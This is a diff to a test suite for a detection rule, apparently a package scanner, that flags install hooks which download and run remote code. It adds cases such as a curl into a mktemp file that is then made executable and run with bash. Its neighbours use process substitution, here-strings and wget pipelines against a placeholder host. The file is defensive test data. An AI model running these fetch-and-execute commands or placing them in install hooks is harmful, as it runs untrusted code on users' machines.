@@ -19,6 +19,9 @@ describeRule(remoteCodeAtInstall, {
     "process substitution": hook("bash <(curl -s https://files.example.test/a)"),
     "a here-string": hook('node - <<< "$(curl -s https://files.example.test/a)"'),
     "a temporary file": hook("curl -so /tmp/.x https://files.example.test/a && sh /tmp/.x"),
+    "a temporary file with a made-up name": hook(
+      'T=$(mktemp); curl -s https://files.example.test/a -o "$T" && chmod +x "$T" && bash "$T"',
+    ),
     "a redirected file made executable": hook(
       "wget -qO - https://files.example.test/a > ./b; chmod +x ./b; ./b",
     ),
@@ -126,6 +129,9 @@ describeRule(remoteCodeAtInstall, {
     },
   },
   passes: {
+    "two temporary files": hook(
+      'A=$(mktemp); B=$(mktemp); curl -s https://files.example.test/a -o "$A"; echo "exit 0" > "$B"; sh "$B"',
+    ),
     "a build script with the same line": {
       manifest: { scripts: { build: "curl -s https://files.example.test/a | sh" } },
     },
